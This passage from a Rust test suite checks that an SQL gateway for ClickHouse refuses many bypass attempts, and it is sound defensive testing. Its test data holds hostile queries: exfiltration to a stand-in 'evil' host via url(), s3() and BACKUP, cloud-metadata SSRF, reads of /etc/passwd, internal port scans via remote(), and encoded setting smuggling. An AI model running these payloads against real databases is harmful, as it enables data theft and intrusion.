    (78, "SHOW TABLES FROM sec", 403, "object-not-allowed", "SHOW TABLES"),
    (79, "SHOW COLUMNS FROM events WHERE (SELECT s FROM sec.secret LIMIT 1) LIKE 'T%'", 403, "table-not-allowed", "sec.secret"),
    (79, "SHOW TABLES WHERE throwIf(1, (SELECT s FROM sec.secret))", 403, "function-not-allowed", "throwIf"),
    (79, "SHOW TABLES LIMIT (SELECT id FROM sec.secret)", 403, "table-not-allowed", "sec.secret"),
    (79, "KILL QUERY WHERE throwIf(1, (SELECT s FROM sec.secret))", 403, "effect-not-allowed", "administer"),
];

/// 64, 65, 80, 81: with what the address says. The name of a database in the address is the one that is judged.
const BESIDE: &[ByAddress<'_>] = &[
    (64, "/?param_d=sec&param_t=secret", "SELECT * FROM {d:Identifier}.{t:Identifier}", 403, "table-not-allowed", "sec.secret"),
    (64, "/?param_t=secret", "SELECT * FROM sec.{t:Identifier}", 403, "table-not-allowed", "sec.secret"),
    (64, "/?param_t=sec.secret", "SELECT * FROM {t:Identifier}", 403, "table-not-allowed", "default.sec.secret"),
    (64, "/?database=sec&param_t=secret", "SELECT * FROM {t:Identifier}", 403, "table-not-allowed", "sec.secret"),
    (64, "/?param_d=sec&param_t=secret", "SELECT (1, 'x') IN {d:Identifier}.{t:Identifier}", 403, "table-not-allowed", "sec.secret"),
    (64, "/?param_d=sec&param_t=secret", "SELECT in((1, 'x'), {d:Identifier}.{t:Identifier})", 403, "table-not-allowed", "sec.secret"),
    (64, "/?param_d=sec", "USE {d:Identifier}", 403, "effect-not-allowed", "session"),
    (64, "/?param_d=sec", "SHOW TABLES FROM {d:Identifier}", 403, "object-not-allowed", "SHOW TABLES"),
    (64, "/?param_d=sec&param_t=secret", "SELECT * FROM loop({d:Identifier}, {t:Identifier})", 403, "table-function-not-allowed", "loop"),
    (64, "/?param_d=sec&param_t=secret", "DESCRIBE {d:Identifier}.{t:Identifier}", 403, "table-not-allowed", "sec.secret"),
    (64, "/?param_d=sec&param_t=secret", "EXISTS {d:Identifier}.{t:Identifier}", 403, "table-not-allowed", "sec.secret"),
    (64, "/?param_d=sec&param_t=secret", "SHOW CREATE TABLE {d:Identifier}.{t:Identifier}", 403, "table-not-allowed", "sec.secret"),
    (64, "/?param_d=sec&param_d=default", "SELECT * FROM {d:Identifier}.events", 400, "malformed-parameter", "param_d"),
    (64, "/", "SELECT * FROM {d:Identifier}.events", 403, "computed-name", "FROM"),
    (64, "/?param_t=", "SELECT * FROM {t:Identifier}", 403, "computed-name", "FROM"),
    (64, "/?param_t=secret", "SELECT * FROM sec.{t:identifier}", 400, "not-understood", "Identifier"),
    (64, "/?param_t=events", "SELECT * FROM {t:String}", 400, "not-understood", "Identifier"),
    (65, "/?param_d=sec&param_r=.*", "SELECT * FROM merge({d:String}, {r:String})", 403, "table-function-not-allowed", "merge"),
    (70, "/?param_d=sec.d", "SELECT dictGet({d:String}, 's', 1)", 403, "function-not-allowed", "dictGet"),
    (80, "/?database=sec", "SELECT * FROM secret", 403, "table-not-allowed", "sec.secret"),
    (80, "/?database=sec", "SELECT * FROM 'secret'", 403, "table-not-allowed", "sec.secret"),
    (80, "/?session_id=a", "USE sec", 403, "effect-not-allowed", "session"),
    (80, "/", "SELECT * FROM secret SETTINGS database = 'sec'", 403, "setting-not-allowed", "database"),
    (75, "/?database=sec", "WITH z AS (SELECT 'x' IN secret), secret AS (SELECT 'x' AS s) SELECT * FROM z", 403, "table-not-allowed", "sec.z"),
    (63, "/?param_t=secret", "SELECT (1, 'x') IN + sec.{t:Identifier}", 403, "table-not-allowed", "sec.secret"),
    (81, "/?session_id=a", "CREATE TEMPORARY TABLE events AS SELECT * FROM sec.secret", 403, "effect-not-allowed", "session"),
];

#[tokio::test]
async fn no_way_to_a_forbidden_table_is_open() {
    let scene = Scene::begin().await;
    let (status, reason, says) = NAMES_IT;
    let mut attacks = scene.by_body("analysts", &PLACES.iter().map(|&(number, sql)| (number, sql, status, reason, says)).collect::<Vec<_>>());
    attacks.extend(scene.by_body("analysts", WAYS));
    attacks.extend(scene.by_address("analysts", BESIDE));
    for (number, header, status, reason) in
        [(64, "Content-Type: multipart/form-data; boundary=x", 400, "malformed-body"), (80, "X-ClickHouse-Database: sec", 400, "malformed-parameter")]
    {
        let request = post("/?database=default", &scene.token("analysts"), "SELECT * FROM secret").replacen("\r\n", &format!("\r\n{header}\r\n"), 1);
        attacks.push(Attack { number, request: request.into(), status, reason, says: "", kind: "" });
    }
    scene.refuses(attacks).await;
}

/// 83 to 93: settings of the address that hold SQL or change what a text means.
const SETTINGS_BESIDE: &[ByAddress<'_>] = &[
    (83, "/?select=(select s from sec.secret)", "SELECT 1", 400, "parameter-not-allowed", "select"),
    (83, "/?filter=id in (select id from sec.secret)", "SELECT 1", 400, "parameter-not-allowed", "filter"),
    (83, "/?order=(select s from sec.secret)", "SELECT 1", 400, "parameter-not-allowed", "order"),
    (83, "/?sort=(select s from sec.secret)", "SELECT 1", 400, "parameter-not-allowed", "sort"),
    (83, "/?page=(select id from sec.secret)", "SELECT 1", 400, "parameter-not-allowed", "page"),
    (83, "/?limit=(select id from sec.secret)", "SELECT 1", 403, "setting-not-allowed", "limit"),
    (83, "/?offset=1+1", "SELECT 1", 403, "setting-not-allowed", "offset"),
    (85, "/?implicit_table_at_top_level=sec.secret", "SELECT s", 400, "parameter-not-allowed", "implicit_table_at_top_level"),
    (
        86,
        "/?additional_table_filters={'events':'id in (select id from sec.secret)'}",
        "SELECT * FROM events",
        400,
        "parameter-not-allowed",
        "additional",
    ),
    (86, "/?additional_table_filters={'events':'1 or throwIf(1)'}", "SELECT * FROM events", 400, "parameter-not-allowed", "additional"),
    (86, "/?additional_result_filter=throwIf(1)", "SELECT * FROM events", 400, "parameter-not-allowed", "additional"),
    (
        87,
        "/?format_schema_source=query&format_schema=select s from sec.secret",
        "SELECT 1 FORMAT Protobuf",
        400,
        "parameter-not-allowed",
        "format_schema",
    ),
    (88, "/?dialect=kusto&allow_experimental_kusto_dialect=1", "sec.secret | project s", 400, "parameter-not-allowed", "dialect"),
    (88, "/?dialect=prql", "from sec.secret", 400, "parameter-not-allowed", "dialect"),
    (88, "/?dialect=polyglot&polyglot_dialect=mysql", "SELECT 1", 400, "parameter-not-allowed", "dialect"),
    (88, "/?dialect=trino", "SELECT 1", 400, "parameter-not-allowed", "dialect"),
    (88, "/?dialect=promql&promql_table=secret", "up", 400, "parameter-not-allowed", "dialect"),
    (88, "/?dialect=clickhouse_json&enable_json_ast_dialect=1", "{}", 400, "parameter-not-allowed", "dialect"),
    (88, "/?allow_experimental_kusto_dialect=1", "SELECT 1", 400, "parameter-not-allowed", "kusto"),
    (88, "/", "sec.secret | project s", 400, "not-understood", "where a statement was expected"),
    (88, "/", "{\"type\": \"SelectQuery\"}", 400, "not-understood", "where a statement was expected"),
    (89, "/?implicit_select=1", "(SELECT s FROM sec.secret)", 400, "parameter-not-allowed", "implicit_select"),
    (89, "/", "(SELECT s FROM sec.secret)", 403, "table-not-allowed", "sec.secret"),
    (89, "/", "dictGet('d', 's', 1)", 400, "not-understood", "where a statement was expected"),
    (89, "/", "1 + 2", 400, "not-understood", "where a statement was expected"),
    (90, "/?profile=admin", "SELECT 1", 400, "parameter-not-allowed", "profile"),
    (90, "/?compatibility=22.3", "SELECT 1", 400, "parameter-not-allowed", "compatibility"),
    (91, "/?readonly=0", "DROP TABLE events", 400, "parameter-not-allowed", "readonly"),
    (91, "/", "SET readonly = 0", 403, "effect-not-allowed", "session"),
    (92, "/?SQL_tenant=other", "SELECT * FROM events", 400, "parameter-not-allowed", "SQL_tenant"),
    (92, "/", "SET SQL_tenant = 'other'", 403, "effect-not-allowed", "session"),
    (93, "/?%73elect=(select s from sec.secret)", "SELECT 1", 400, "parameter-not-allowed", "select"),
    (93, "/?Select=(select s from sec.secret)", "SELECT 1", 400, "parameter-not-allowed", "Select"),
    (93, "/?select%20=(select s from sec.secret)", "SELECT 1", 400, "parameter-not-allowed", "select"),
    (93, "/?%20select=1", "SELECT 1", 400, "parameter-not-allowed", "select"),
    (93, "/?+select=1", "SELECT 1", 400, "parameter-not-allowed", "select"),
    (93, "/?max_threads=1&select=(select s from sec.secret)", "SELECT 1", 400, "parameter-not-allowed", "select"),
    (93, "/?default_format=TSV&select=(select s from sec.secret)", "SELECT 1", 400, "parameter-not-allowed", "select"),
    (93, "/?%EF%BB%BFselect=1", "SELECT 1", 400, "parameter-not-allowed", "select"),
    (93, "/?SELECT=1", "SELECT 1", 400, "parameter-not-allowed", "SELECT"),
    (93, "/?sel%65ct", "SELECT 1", 400, "parameter-not-allowed", "select"),
    (93, "/?select=%zz", "SELECT 1", 400, "malformed-parameter", "%25"),
    (93, "/?select%00=1", "SELECT 1", 400, "malformed-parameter", "UTF-8"),
    (93, "/?select=%c0%a7", "SELECT 1", 400, "malformed-parameter", "UTF-8"),
    (93, "/?database=default%00", "SELECT 1", 400, "malformed-parameter", "UTF-8"),
    (93, "/?default_format=TSV SETTINGS select=1", "SELECT 1", 400, "malformed-parameter", "default_format"),
    (93, "/?date_time_input_format=best_effort&date_time_input_format=basic", "SELECT 1", 400, "malformed-parameter", "date_time_input_format"),
    (93, "/?param_x%3Aselect=1", "SELECT 1", 400, "malformed-parameter", "param_"),
];

/// 84 to 94: settings in the statement.
const SETTINGS_WITHIN: &[ByBody<'_>] = &[
    (84, "SELECT 1 SETTINGS select = '(select s from sec.secret)'", 403, "setting-not-allowed", "`select`"),
    (84, "SELECT 1 SETTINGS select = {x:String}", 403, "computed-name", "SETTINGS"),
    (84, "SELECT 1 SETTINGS output_format_json_quote_denormals = {x:UInt8}", 403, "computed-name", "SETTINGS"),
    (84, "SELECT * FROM (SELECT 1 SETTINGS select = '(select s from sec.secret)')", 403, "setting-not-allowed", "`select`"),
    (84, "SELECT 1 UNION ALL SELECT 2 SETTINGS select = '(select s from sec.secret)'", 403, "setting-not-allowed", "`select`"),
    (84, "(SELECT 1 SETTINGS select = '(select s from sec.secret)') UNION ALL SELECT 2", 403, "setting-not-allowed", "`select`"),
    (84, "SELECT 1 FORMAT JSON SETTINGS select = '(select s from sec.secret)'", 403, "setting-not-allowed", "`select`"),
    (84, "SELECT 1 SETTINGS select = '1' FORMAT JSON", 403, "setting-not-allowed", "`select`"),
    (84, "SELECT 1 SETTINGS output_format_json_quote_denormals = 1, select = '1'", 403, "setting-not-allowed", "`select`"),
    (84, "SHOW TABLES SETTINGS select = '(select s from sec.secret)'", 403, "setting-not-allowed", "`select`"),
    (84, "EXPLAIN SELECT 1 SETTINGS select = '(select s from sec.secret)'", 403, "setting-not-allowed", "`select`"),
    (84, "DESCRIBE events SETTINGS select = '(select s from sec.secret)'", 403, "setting-not-allowed", "`select`"),
    (84, "EXISTS events SETTINGS select = '(select s from sec.secret)'", 403, "setting-not-allowed", "`select`"),
    (84, "FROM events |> SELECT id SETTINGS select = '1'", 403, "setting-not-allowed", "`select`"),
    (84, "FROM events SELECT id SETTINGS select = '1'", 403, "setting-not-allowed", "`select`"),
    (84, "WITH x AS (SELECT 1 SETTINGS select = '1') SELECT * FROM x", 403, "setting-not-allowed", "`select`"),
    (84, "SELECT (SELECT 1 SETTINGS select = '1')", 403, "setting-not-allowed", "`select`"),
    (84, "SELECT 1 IN (SELECT 1 SETTINGS select = '1')", 403, "setting-not-allowed", "`select`"),
    (84, "SELECT 1 SETTINGS select", 403, "setting-not-allowed", "`select`"),
    (84, "SELECT 1 SETTINGS filter = 'id in (select id from sec.secret)'", 403, "setting-not-allowed", "`filter`"),
    (85, "SELECT s SETTINGS implicit_table_at_top_level = 'sec.secret'", 403, "setting-not-allowed", "implicit_table_at_top_level"),
    (86, "SELECT * FROM events SETTINGS additional_table_filters = {'events': 'throwIf(1)'}", 403, "setting-not-allowed", "additional_table_filters"),
    (
        87,
        "SELECT 1 FORMAT Protobuf SETTINGS format_schema = 'select s from sec.secret', format_schema_source = 'query'",
        403,
        "setting-not-allowed",
        "format_schema",
    ),
    (88, "SELECT 1 SETTINGS dialect = 'kusto'", 403, "setting-not-allowed", "dialect"),
    (90, "SELECT 1 SETTINGS profile = 'default'", 403, "setting-not-allowed", "profile"),
    (90, "SELECT 1 SETTINGS compatibility = '20.12'", 403, "setting-not-allowed", "compatibility"),
    (90, "SELECT 1 SETTINGS enable_global_with_statement = 0", 403, "setting-not-allowed", "enable_global_with_statement"),
    (90, "SELECT 1 SETTINGS allow_experimental_analyzer = 0", 403, "setting-not-allowed", "allow_experimental_analyzer"),
    (91, "SELECT 1 SETTINGS readonly = DEFAULT", 403, "setting-not-allowed", "readonly"),
    (91, "SELECT 1 SETTINGS readonly = 0", 403, "setting-not-allowed", "readonly"),
    (92, "SELECT * FROM events SETTINGS SQL_tenant = 'other'", 403, "setting-not-allowed", "SQL_tenant"),
    (94, "SELECT 1 SETTINGS `select` = '(select s from sec.secret)'", 403, "setting-not-allowed", "`select`"),
    (94, "SELECT 1 SETTINGS \"select\" = '(select s from sec.secret)'", 403, "setting-not-allowed", "`select`"),
    (94, r"SELECT 1 SETTINGS `sel\x65ct` = '(select s from sec.secret)'", 403, "setting-not-allowed", "`select`"),
    (94, "SELECT 1 SETTINGS “select” = '(select s from sec.secret)'", 403, "setting-not-allowed", "`select`"),
    (94, "SELECT 1 SETTINGS SELECT = '(select s from sec.secret)'", 403, "setting-not-allowed", "`SELECT`"),
    (94, "SELECT 1 SETTINGS Output_Format_Json_Quote_Denormals = 1", 403, "setting-not-allowed", "Output_Format"),
    (94, "SELECT 1 SETTINGS /* x */ select /* y */ = $$1$$", 403, "setting-not-allowed", "`select`"),
    (94, "SELECT 1 SETTINGS param_x = 1", 403, "setting-not-allowed", "param_x"),
];

#[tokio::test]
async fn no_setting_carries_sql() {
    let scene = Scene::begin().await;
    let mut attacks = scene.by_address("analysts", SETTINGS_BESIDE);
    attacks.extend(scene.by_body("analysts", SETTINGS_WITHIN));
    let writes = [
        (91, "INSERT INTO events SETTINGS readonly = DEFAULT VALUES (1)", 403, "setting-not-allowed", "readonly"),
        (91, "INSERT INTO events SETTINGS readonly = DEFAULT FORMAT CSV\n1", 403, "setting-not-allowed", "readonly"),
        (94, "INSERT INTO events SETTINGS `sel\\x65ct` = '1' SELECT 1", 403, "setting-not-allowed", "`select`"),
    ];
    attacks.extend(scene.by_body("engineers", &writes));
    scene.refuses(attacks).await;
}

/// 114 to 128: what writes or leaves the server while it looks like reading.
const BY_READING: &[ByBody<'_>] = &[
    (115, "INSERT INTO TABLE FUNCTION file('x.csv') SELECT 1", 403, "effect-not-allowed", "insert"),
    (116, "WITH x AS (SELECT 1) INSERT INTO events SELECT * FROM x", 403, "effect-not-allowed", "insert"),
    (116, "INSERT INTO events FROM numbers(1) SELECT 1", 403, "effect-not-allowed", "insert"),
    (117, "BACKUP TABLE events TO File('b.zip')", 403, "effect-not-allowed", "administer"),
    (117, "BACKUP TABLE events TO S3('https://evil/x', 'k', 's') ASYNC", 403, "effect-not-allowed", "administer"),
    (117, "RESTORE TABLE events FROM File('b.zip')", 403, "effect-not-allowed", "administer"),
    (118, "CREATE TEMPORARY TABLE t ENGINE = Memory AS SELECT 1", 403, "effect-not-allowed", "session"),
    (118, "CREATE TEMPORARY VIEW v AS SELECT 1", 403, "effect-not-allowed", "session"),
    (118, "CREATE HYPOTHETICAL INDEX i ON events (id) TYPE minmax", 403, "effect-not-allowed", "session"),
    (119, "CREATE TABLE a (x Int8) ENGINE = Memory PARALLEL WITH DROP TABLE events", 403, "effect-not-allowed", "define"),
    (119, "SELECT 1 PARALLEL WITH DROP TABLE events", 403, "effect-not-allowed", "administer"),
    (120, "EXPLAIN PIPELINE INSERT INTO events SELECT 1", 403, "object-not-allowed", "EXPLAIN"),
    (120, "EXPLAIN INSERT INTO FUNCTION url('http://evil/', CSV) SELECT 1", 403, "table-function-not-allowed", "url"),
    (120, "EXPLAIN TABLE OVERRIDE mysql('evil:3306', 'd', 't', 'u', 'p') COLUMNS (x Int8)", 403, "table-function-not-allowed", "mysql"),
    (120, "EXPLAIN AST DROP TABLE events", 403, "object-not-allowed", "EXPLAIN"),
    (121, "SELECT generateSerialID('x')", 403, "function-not-allowed", "generateSerialID"),
    (121, "SELECT logTrace('x')", 403, "function-not-allowed", "logTrace"),
    (121, "SELECT sleep(3)", 403, "function-not-allowed", "sleep"),
    (121, "SELECT sleepEachRow(0.1) FROM events", 403, "function-not-allowed", "sleepEachRow"),
    (121, "SELECT throwIf(1, 'x')", 403, "function-not-allowed", "throwIf"),
    (121, "SELECT throwIf(1, (SELECT s FROM sec.secret))", 403, "function-not-allowed", "throwIf"),
    (121, "SELECT `throwIf` /* x */ (1)", 403, "function-not-allowed", "throwIf"),
    (121, "SELECT getSetting('SQL_tenant')", 403, "function-not-allowed", "getSetting"),
    (121, "SELECT @@max_threads", 403, "function-not-allowed", "globalVariable"),
    (122, "SELECT * FROM url('http://169.254.169.254/latest/meta-data/', LineAsString)", 403, "table-function-not-allowed", "url"),
    (122, "DESCRIBE url('http://10.0.0.1/')", 403, "table-function-not-allowed", "url"),
    (122, "DESCRIBE TABLE url('http://10.0.0.1/')", 403, "table-function-not-allowed", "url"),
    (122, "SELECT * FROM mysql('10.0.0.1:3306', 'd', 't', 'u', 'p')", 403, "table-function-not-allowed", "mysql"),
    (122, "SELECT * FROM postgresql('10.0.0.1:5432', 'd', 't', 'u', 'p')", 403, "table-function-not-allowed", "postgresql"),
    (122, "SELECT * FROM remote('10.0.0.{1..254}:22', system.one)", 403, "table-function-not-allowed", "remote"),
    (122, "SELECT * FROM s3('http://10.0.0.1/x.csv')", 403, "table-function-not-allowed", "s3"),
    (122, "SELECT * FROM s3(named, filename = 'x.csv')", 403, "table-function-not-allowed", "s3"),
    (122, "SELECT * FROM executable('x.sh', TSV, 'x String')", 403, "table-function-not-allowed", "executable"),
    (122, "SELECT * FROM sqlite('x.db', 't')", 403, "table-function-not-allowed", "sqlite"),
    (122, "SELECT * FROM icebergLocal('/x')", 403, "table-function-not-allowed", "icebergLocal"),
    (122, "SELECT * FROM unheardOf('x')", 403, "table-function-not-allowed", "unheardOf"),
    (123, "SELECT * FROM url('http://evil/?x=' || (SELECT groupArray(t) FROM events)[1], CSV, 'a String')", 403, "computed-name", "url"),
    (123, "SELECT * FROM url(concat('http://evil/?x=', (SELECT t FROM events)), CSV, 'a String')", 403, "computed-name", "url"),
    (124, "SELECT file('/etc/passwd')", 403, "function-not-allowed", "file"),
    (124, "SELECT `file`('/etc/passwd')", 403, "function-not-allowed", "file"),
    (124, "SELECT file(t) FROM events", 403, "function-not-allowed", "file"),
    (124, "SELECT * FROM file('*', LineAsString)", 403, "table-function-not-allowed", "file"),
    (124, "SELECT 1 FORMAT Template SETTINGS format_template_row = '../../x'", 403, "setting-not-allowed", "format_template_row"),
    (124, "SELECT * APPLY(file) FROM events", 403, "function-not-allowed", "file"),
    (124, "SELECT * APPLY file FROM events", 403, "function-not-allowed", "file"),
    (124, "SELECT COLUMNS('t') APPLY(upper) APPLY(file) FROM events", 403, "function-not-allowed", "file"),
    (124, "SELECT arrayMap(file, ['/etc/passwd'])", 403, "function-not-allowed", "file"),
    (124, "WITH x -> file(x) AS upper SELECT upper('/etc/passwd')", 403, "function-not-allowed", "file"),
    (125, "SELECT aiGenerate('x', t) FROM events", 403, "function-not-allowed", "aiGenerate"),
    (125, "SELECT AIGenerateText('x', t) FROM events", 403, "function-not-allowed", "AIGenerateText"),
    (126, "SELECT 1 INTO OUTFILE 'x'", 403, "object-not-allowed", "INTO OUTFILE"),
    (126, "SELECT 1 INTO OUTFILE 'x' AND STDOUT", 403, "object-not-allowed", "INTO OUTFILE"),
    (126, "SELECT 1 INTO OUTFILE 'x' TRUNCATE FORMAT CSV", 403, "object-not-allowed", "INTO OUTFILE"),
    (126, "INSERT INTO events FROM INFILE 'x' FORMAT CSV", 403, "effect-not-allowed", "insert"),
    (126, "COPY events TO 'x'", 400, "not-understood", "where a name was expected"),
    (126, "COPY events FROM 'x'", 400, "not-understood", "where a name was expected"),
    (127, "SELECT 1 SETTINGS output_format_schema = 'x.capnp'", 403, "setting-not-allowed", "output_format_schema"),
    (128, "SELECT 1 SETTINGS run_query_in_background = 1", 403, "setting-not-allowed", "run_query_in_background"),
];

/// 127, 128: parameters of the address that make files, or let a statement outlive its request.
const OUTLIVING: &[ByAddress<'_>] = &[
    (127, "/?output_format_schema=x.capnp", "SELECT 1", 400, "parameter-not-allowed", "output_format_schema"),
    (127, "/?rename_files_after_processing=x", "SELECT 1", 400, "parameter-not-allowed", "rename_files_after_processing"),
    (127, "/?input_format_record_errors_file_path=x", "SELECT 1", 400, "parameter-not-allowed", "input_format_record_errors_file_path"),
    (124, "/?format_template_row=../../x", "SELECT 1 FORMAT Template", 400, "parameter-not-allowed", "format_template_row"),
    (128, "/?run_query_in_background=1", "SELECT 1", 400, "parameter-not-allowed", "run_query_in_background"),
    (128, "/?async_insert=1&wait_for_async_insert=0", "SELECT 1", 403, "setting-not-allowed", "async_insert"),
];

/// 114 to 126, 149 to 155: what one who may insert into one table may not do.
const BY_INSERTING: &[ByBody<'_>] = &[
    (114, "INSERT INTO FUNCTION url('http://evil/', 'CSV', 'a String') SELECT t FROM events", 403, "table-function-not-allowed", "url"),
    (115, "INSERT INTO TABLE FUNCTION file('x.csv') SELECT t FROM events", 403, "table-function-not-allowed", "file"),
    (115, "INSERT INTO FUNCTION s3('http://evil/x.csv') SELECT t FROM events", 403, "table-function-not-allowed", "s3"),
    (115, "INSERT INTO FUNCTION remote('127.0.0.1', sec.secret) SELECT 1, 'x'", 403, "table-function-not-allowed", "remote"),
    (116, "WITH x AS (SELECT * FROM sec.secret) INSERT INTO events SELECT * FROM x", 403, "table-not-allowed", "sec.secret"),
    (116, "INSERT INTO events FROM sec.secret SELECT *", 403, "table-not-allowed", "sec.secret"),
    (116, "INSERT INTO sec.secret SELECT * FROM events", 403, "table-not-allowed", "sec.secret"),
    (116, "INSERT INTO sec.secret VALUES (1, 'x')", 403, "table-not-allowed", "sec.secret"),
    (116, "INSERT INTO sec.`secr\\x65t` FORMAT CSV\n1,x", 403, "table-not-allowed", "sec.secret"),
    (116, "WITH secret AS (SELECT 1) INSERT INTO sec.secret SELECT * FROM secret", 403, "table-not-allowed", "sec.secret"),
    (116, "INSERT INTO events (SELECT * FROM sec.secret)", 403, "table-not-allowed", "sec.secret"),
    (116, "INSERT INTO events SELECT * FROM events UNION ALL SELECT * FROM sec.secret", 403, "table-not-allowed", "sec.secret"),
    (119, "INSERT INTO events SELECT 1 PARALLEL WITH DROP TABLE events", 403, "effect-not-allowed", "administer"),
    (119, "INSERT INTO events SELECT 1 PARALLEL WITH INSERT INTO sec.secret SELECT 1", 403, "table-not-allowed", "sec.secret"),
    (126, "INSERT INTO events FROM INFILE 'x' FORMAT CSV", 403, "object-not-allowed", "FROM INFILE"),
    (129, "DROP TABLE events", 403, "effect-not-allowed", "define"),
    (129, "TRUNCATE TABLE events", 403, "effect-not-allowed", "change"),
    (
        150,
        "INSERT INTO events SELECT * FROM input('id UInt8, t String') WHERE id IN (SELECT id FROM sec.secret) FORMAT CSV\n1,x",
        403,
        "table-function-not-allowed",
        "input",
    ),
    (150, "INSERT INTO events SELECT * FROM events WHERE id IN (SELECT id FROM sec.secret)", 403, "table-not-allowed", "sec.secret"),
    (151, "SELECT * FROM format(Values, 's String', concat('((SELECT s FROM ', 'sec.secret))'))", 403, "computed-name", "format"),
    (151, "SELECT * FROM format(Values, 's String', '((SELECT s FROM sec.secret))')", 403, "computed-name", "format"),
    (152, "SELECT a, b FROM generateRandom('a UInt8, b String ALIAS file(''/etc/passwd'')') LIMIT 1", 403, "computed-name", "structure"),
    (152, "SELECT * FROM values('a UInt8, b String ALIAS file(''/etc/passwd'')', (1))", 403, "computed-name", "structure"),
    (152, "SELECT * FROM format(JSONEachRow, 'a UInt8, b String DEFAULT file(''/etc/passwd'')', '{\"a\":1}')", 403, "computed-name", "structure"),
    (153, "INSERT INTO events SETTINGS input_format_values_interpret_expressions = 1 VALUES ((SELECT 1))", 403, "setting-not-allowed", "interpret"),
    (153, "INSERT INTO events SETTINGS `input_format_values_deduce_templates_of_expressions` = 1 VALUES (1)", 403, "setting-not-allowed", "deduce"),
    (154, "SELECT * FROM remote('127.0.0.{1..254}:9000', system.one)", 403, "table-function-not-allowed", "remote"),
    (155, "INSERT INTO FUNCTION remote('127.0.0.1', default.events) VALUES (1)", 403, "table-function-not-allowed", "remote"),
    (155, "INSERT INTO TABLE FUNCTION cluster(main, default.events) VALUES (1)", 403, "table-function-not-allowed", "cluster"),
];

#[tokio::test]
async fn nothing_writes_or_leaves_the_server_by_the_way() {
    let scene = Scene::begin().await;
    let mut attacks = scene.by_body("analysts", BY_READING);
    attacks.extend(scene.by_address("analysts", OUTLIVING));
    attacks.extend(scene.by_body("engineers", BY_INSERTING));
    for group in ["analysts", "engineers"] {
        let target = encoded("/?query=INSERT INTO FUNCTION url('http://evil/','CSV','a String') SELECT t FROM events");
        let request = get(&target, &[&format!("Authorization: Bearer {}", scene.token(group))]).into();
        attacks.push(Attack { number: 114, request, status: 403, reason: "write-by-get", says: "POST", kind: "InsertQuery" });
    }
    scene.refuses(attacks).await;
}

/// 129, and every kind of statement: its node in ClickHouse's tree, one statement of it, the reason that refuses it.
const KINDS: &[(&str, &str, &str)] = &[
    ("SelectWithUnionQuery", "SELECT * FROM sec.secret", "table-not-allowed"),
    ("DescribeQuery", "DESC sec.secret", "table-not-allowed"),
    ("DescribeCacheQuery", "DESCRIBE FILESYSTEM CACHE 'x'", "object-not-allowed"),
    ("ExistsTableQuery", "EXISTS TABLE sec.secret", "table-not-allowed"),
    ("ExistsViewQuery", "EXISTS VIEW sec.secret", "table-not-allowed"),
    ("ExistsDictionaryQuery", "EXISTS DICTIONARY sec.secret", "table-not-allowed"),
    ("ExistsDatabaseQuery", "EXISTS DATABASE sec", "object-not-allowed"),
    ("ShowTables", "SHOW TABLES", "table-not-allowed"),
    ("ShowTables", "SHOW FULL TEMPORARY TABLES IN sec LIKE 's%'", "object-not-allowed"),
    ("ShowTables", "SHOW DATABASES", "table-not-allowed"),
    ("ShowTables", "SHOW DICTIONARIES", "table-not-allowed"),
    ("ShowTables", "SHOW CLUSTERS", "table-not-allowed"),
    ("ShowTables", "SHOW CLUSTER 'main'", "object-not-allowed"),
    ("ShowTables", "SHOW MERGES", "table-not-allowed"),
    ("ShowTables", "SHOW FILESYSTEM CACHES", "table-not-allowed"),
    ("ShowColumns", "SHOW EXTENDED FULL COLUMNS FROM sec.secret", "table-not-allowed"),
    ("ShowIndexes", "SHOW INDEX FROM sec.secret", "table-not-allowed"),
    ("ShowProcesslistQuery", "SHOW PROCESSLIST", "table-not-allowed"),
    ("ShowPrivilegesQuery", "SHOW PRIVILEGES", "table-not-allowed"),
    ("ShowCreateTableQuery", "SHOW TABLE sec.secret", "table-not-allowed"),
    ("ShowCreateViewQuery", "SHOW CREATE VIEW sec.secret", "table-not-allowed"),
    ("ShowCreateDictionaryQuery", "SHOW CREATE DICTIONARY sec.secret", "table-not-allowed"),
    ("ShowCreateDatabaseQuery", "SHOW CREATE DATABASE sec", "object-not-allowed"),
    ("ShowGrantsQuery", "SHOW GRANTS", "table-not-allowed"),
    ("ShowGrantsQuery", "SHOW GRANTS FOR owner", "object-not-allowed"),
    ("ShowAccessQuery", "SHOW ACCESS", "table-not-allowed"),
    ("SHOW CREATE USER query", "SHOW CREATE USER owner", "object-not-allowed"),
    ("SHOW CREATE ROLE query", "SHOW CREATE ROLE r", "object-not-allowed"),
    ("SHOW CREATE QUOTA query", "SHOW CREATE QUOTA q", "object-not-allowed"),
    ("SHOW CREATE ROW POLICY query", "SHOW CREATE ROW POLICY p ON sec.secret", "table-not-allowed"),
    ("SHOW CREATE SETTINGS PROFILE query", "SHOW CREATE SETTINGS PROFILE p", "object-not-allowed"),
    ("SHOW USERS query", "SHOW USERS", "table-not-allowed"),
    ("SHOW ROLES query", "SHOW ROLES", "table-not-allowed"),
    ("SHOW CURRENT ROLES query", "SHOW CURRENT ROLES", "table-not-allowed"),
    ("SHOW ENABLED ROLES query", "SHOW ENABLED ROLES", "table-not-allowed"),
    ("SHOW QUOTAS query", "SHOW QUOTAS", "table-not-allowed"),
    ("SHOW CURRENT QUOTA query", "SHOW CURRENT QUOTA", "table-not-allowed"),
    ("SHOW ROW POLICIES query", "SHOW ROW POLICIES", "table-not-allowed"),
    ("SHOW MASKING POLICIES query", "SHOW MASKING POLICIES", "table-not-allowed"),
    ("SHOW SETTINGS PROFILES query", "SHOW SETTINGS PROFILES", "table-not-allowed"),
    ("Explain", "EXPLAIN SELECT * FROM sec.secret", "table-not-allowed"),
    ("Explain", "EXPLAIN AST TRUNCATE TABLE events", "object-not-allowed"),
    ("CheckQuery", "CHECK TABLE sec.secret PARTITION 1", "table-not-allowed"),
    ("CheckQuery", "CHECK DATABASE sec", "object-not-allowed"),
    ("CheckAllQuery", "CHECK ALL TABLES", "object-not-allowed"),
    ("CheckGrantQuery", "CHECK GRANT SELECT ON sec.secret", "table-not-allowed"),
    ("Set", "SET max_threads = 1", "effect-not-allowed"),
    ("Set", "SET param_x = 'y'", "effect-not-allowed"),
    ("Set", "SET TIME ZONE 'UTC'", "effect-not-allowed"),
    ("SetRoleQuery", "SET ROLE admin", "effect-not-allowed"),
    ("SetRoleQuery", "SET DEFAULT ROLE admin TO analyst", "effect-not-allowed"),
    ("UseQuery", "USE sec", "effect-not-allowed"),
    ("ASTTransactionControl", "BEGIN TRANSACTION", "effect-not-allowed"),
    ("ASTTransactionControl", "COMMIT", "effect-not-allowed"),
    ("ASTTransactionControl", "ROLLBACK", "effect-not-allowed"),
